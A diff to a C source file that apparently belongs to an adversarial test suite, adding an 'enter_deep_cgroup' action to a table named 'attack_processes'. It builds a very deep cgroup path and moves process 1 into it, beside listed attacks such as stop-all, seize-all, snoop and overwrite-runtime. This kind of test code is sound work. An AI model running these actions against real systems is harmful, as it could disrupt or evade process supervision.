@@ -300,11 +300,29 @@ static int swap_forever(char **a)
 	return 0;
 }
 
+/* Go so deep below the cgroup a[0] that the path is longer than any that the kernel tells. */
+static int enter_deep_cgroup(char **a)
+{
+	char name[251];
+	int fd;
+
+	memset(name, 'd', sizeof(name) - 1);
+	name[sizeof(name) - 1] = '\0';
+	if (chdir(a[0]) < 0)
+		return -errno;
+	for (int depth = 0; depth < 17; depth++)
+		if (mkdir(name, 0755) < 0 || chdir(name) < 0)
+			return -errno;
+	fd = open("cgroup.procs", O_WRONLY);
+	return result(fd < 0 ? fd : write(fd, "1", 1));
+}
+
 const struct call attack_processes[] = {
 	{ "stop-all", stop_all, 1, "MILLISECONDS" },
 	{ "seize-all", seize_all, 1, "MILLISECONDS" },
 	{ "push-tty", push_tty, 1, "TEXT [own]" },
 	{ "leave-flood", leave_flood, 0, "" },
+	{ "deep-cgroup", enter_deep_cgroup, 1, "DIRECTORY" },
 	{ "snoop", snoop, 1, "MILLISECONDS" },
 	{ "overwrite-runtime", overwrite_runtime, 1, "MILLISECONDS" },
 	{ "swap", swap_forever, 3, "A B STOP" },
